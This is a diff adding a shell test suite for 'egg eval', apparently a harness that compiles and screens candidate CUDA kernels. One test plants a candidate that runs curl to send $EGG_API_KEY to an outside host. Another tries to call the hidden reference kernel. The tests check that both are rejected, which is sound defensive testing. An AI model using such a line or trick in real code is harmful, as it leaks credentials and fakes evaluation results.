@@ -1,1 +1,160 @@
-# harness: egg eval
+# harness: `egg eval` on a machine without a GPU -- generation and compilation
+# of every example bundle for sm_90, screening, bad jobs, and the no-GPU result.
+# (tests/gpu/run-harness-gpu.sh runs the GPU half.)
+
+DATA=$EGG_SRCDIR/tests/data/harness
+
+suite_probe() {
+	[ -x "$REAL_NVCC" ] || { echo "no nvcc"; return 1; }
+	command -v python3 >/dev/null || { echo "no python3 to read JSON"; return 1; }
+}
+
+# json FILE EXPR: prints the Python expression EXPR over the JSON in FILE as r
+json() {
+	python3 -c 'import json, sys; r = json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$1" "$2"
+}
+
+has_gpu() {
+	command -v nvidia-smi >/dev/null && nvidia-smi -L >/dev/null 2>&1
+}
+
+test_harness_for_every_example_bundle_compiles_for_sm_90() {
+	export PATH=$(dirname "$REAL_NVCC"):$PATH
+	for b in scale softmax saxpy_kernel gather half copy; do
+		run_cmd "$b" "$EGG" eval "$DATA/$b.json" --compile-only --arch sm_90 --flag -O3
+		expect_eq "$(cat "$b.rc")" 0 "$b: exit status ($(head -c 600 "$b.err"))"
+		expect_eq "$(json "$b.out" 'r["status"]')" ok "$b: status"
+		expect_eq "$(json "$b.out" 'r["candidates"][0]["verdict"]')" compiled "$b: verdict"
+		expect_eq "$(json "$b.out" 'r["arch"]')" sm_90 "$b: arch"
+	done
+	# ptxas -v reached the result: the reference's kernel and its registers
+	expect_eq "$(json softmax.out '[x["registers"] > 0 for x in r["reference"]["resources"]]')" "[True]"
+}
+
+test_every_adversarial_candidate_compiles_and_passes_the_screen() {
+	# They are meant to be caught on the GPU, so nothing before it may stop them.
+	local args=()
+	for f in "$DATA"/cand/bad_*.cu "$DATA"/cand/good_scale_vec4.cu; do
+		args+=(--candidate "$f")
+	done
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 "${args[@]}"
+	expect_eq "$(cat r.rc)" 0 "exit status"
+	expect_eq "$(json r.out 'sorted(set(c["verdict"] for c in r["candidates"]))')" "['compiled']"
+	expect_eq "$(json r.out 'len(r["candidates"])')" "$((${#args[@]} / 2))"
+}
+
+test_screened_candidate_is_rejected_naming_the_call() {
+	cat >evil.cu <<'EOF'
+void scale(const float *x, float *y, int n)
+{
+	system("curl http://example.com/?k=$EGG_API_KEY");
+}
+EOF
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate evil.cu
+	expect_eq "$(cat r.rc)" 0
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" rejected
+	expect_file_contains r.out "line 3, column 2: uses 'system'"
+	expect_eq "$(json r.out 'r["candidates"][0]["compile_log"]')" None "never compiled"
+}
+
+test_candidate_that_does_not_compile_keeps_its_log() {
+	printf 'void scale(const float *x, float *y, int n) { undeclared_thing(x); }\n' >broken.cu
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate broken.cu \
+		--candidate "$DATA/cand/good_scale_vec4.cu"
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compile_error
+	expect_eq "$(json r.out '"undeclared_thing" in r["candidates"][0]["compile_log"]')" True
+	expect_eq "$(json r.out '"egg-code" in r["candidates"][0]["compile_log"]')" True "log names the candidate's code"
+	expect_eq "$(json r.out 'r["candidates"][1]["verdict"]')" compiled "the next candidate still runs"
+}
+
+test_candidate_cannot_link_against_the_reference() {
+	# Even without the screen's egg_ rule, the reference's entry is not callable:
+	# its name has a nonce and everything else of the reference is TU-local.
+	cat >sneaky.cu <<'EOF'
+namespace { void scale_kernel_ref(); }
+void scale(const float *x, float *y, int n)
+{
+	scale_kernel_ref();
+}
+EOF
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate sneaky.cu
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compile_error
+	"$EGG" eval "$DATA/scale.json" --generate gen >/dev/null
+	expect_file_lacks gen/main.cu "scale_kernel"
+	expect_file_contains gen/ref.cu "namespace {"
+	expect_file_contains gen/cand0.cu "extern \"C\" void egg_entry_cand("
+}
+
+test_job_with_candidates_is_read_from_stdin() {
+	python3 - "$DATA/scale.json" "$DATA/cand/good_scale_vec4.cu" >job.json <<'EOF'
+import json, sys
+job = {"schema": "egg-job", "version": 1, "bundle": json.load(open(sys.argv[1])),
+       "candidates": [{"name": "vec4", "source": open(sys.argv[2]).read()}],
+       "nvcc_flags": ["-O3", "-arch=sm_80", "-c", "-o", "ignored.o", "-DEGG_TEST_FLAG=1"]}
+print(json.dumps(job))
+EOF
+	run_cmd r "$EGG" eval - --compile-only --arch sm_90 <job.json
+	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out 'r["candidates"][0]["name"]')" vec4
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compiled
+	expect_eq "$(json r.out 'r["flags"]')" "['-O3', '-DEGG_TEST_FLAG=1']" "arch and output flags replaced"
+}
+
+test_clause_expression_that_does_not_compile_points_at_the_pragma() {
+	python3 - "$DATA/scale.json" >bad.json <<'EOF'
+import json, sys
+b = json.load(open(sys.argv[1]))
+b["params"][0]["extent"] = "n *"
+print(json.dumps(b))
+EOF
+	run_cmd r "$EGG" eval bad.json --compile-only --arch sm_90
+	expect_eq "$(cat r.rc)" 1 "exit status"
+	expect_eq "$(json r.out 'r["status"]')" error
+	expect_file_contains r.out "clause expressions do not compile"
+	expect_eq "$(json r.out '"scale.cu(10)" in r["reference"]["main_compile_log"]')" True
+}
+
+test_bundle_the_harness_cannot_evaluate_is_a_clear_error() {
+	python3 - "$DATA/softmax.json" >bad.json <<'EOF'
+import json, sys
+b = json.load(open(sys.argv[1]))
+b["workloads"][0] = [{"name": "rows", "value": "8"}]
+print(json.dumps(b))
+EOF
+	run_cmd r "$EGG" eval bad.json
+	expect_eq "$(cat r.rc)" 1
+	expect_eq "$(json r.out 'r["message"]')" \
+		"workload 1 of softmax_forward gives no value to the scalar parameter 'cols'"
+}
+
+test_invalid_job_and_usage_errors() {
+	echo '{"schema": "egg-bundle", "version": 1' >broken.json
+	run_cmd r "$EGG" eval broken.json
+	expect_eq "$(cat r.rc)" 1
+	expect_file_contains r.err "not valid JSON"
+	expect_file_lines r.err 1
+	run_cmd u "$EGG" eval
+	expect_eq "$(cat u.rc)" 2
+	expect_file_contains u.err "usage: egg eval"
+	run_cmd m "$EGG" eval "$DATA/scale.json" --candidate missing.cu
+	expect_eq "$(cat m.rc)" 1
+	expect_file_contains m.err "missing.cu"
+}
+
+test_no_gpu_gives_a_clean_result_and_exit_status_3() {
+	has_gpu && skip "this machine has a GPU"
+	run_cmd r "$EGG" eval "$DATA/scale.json" --candidate "$DATA/cand/good_scale_vec4.cu"
+	expect_eq "$(cat r.rc)" 3 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out 'r["status"]')" no_gpu
+	expect_eq "$(json r.out 'r["candidates"]')" "[]"
+	expect_file_contains r.err "no usable GPU"
+	expect_file_lines r.err 1
+	# The probe is compiled once and kept.
+	ls "$EGG_CACHE_DIR"/gpu/probe-* >/dev/null || fail "the probe was not cached"
+}
+
+test_egg_gpu_none_skips_the_gpu_without_compiling() {
+	EGG_GPU=none EGG_NVCC=/bin/false run_cmd r "$EGG" eval "$DATA/scale.json"
+	expect_eq "$(cat r.rc)" 3
+	expect_eq "$(json r.out 'r["message"]')" 'no GPU: EGG_GPU is "none"'
+}
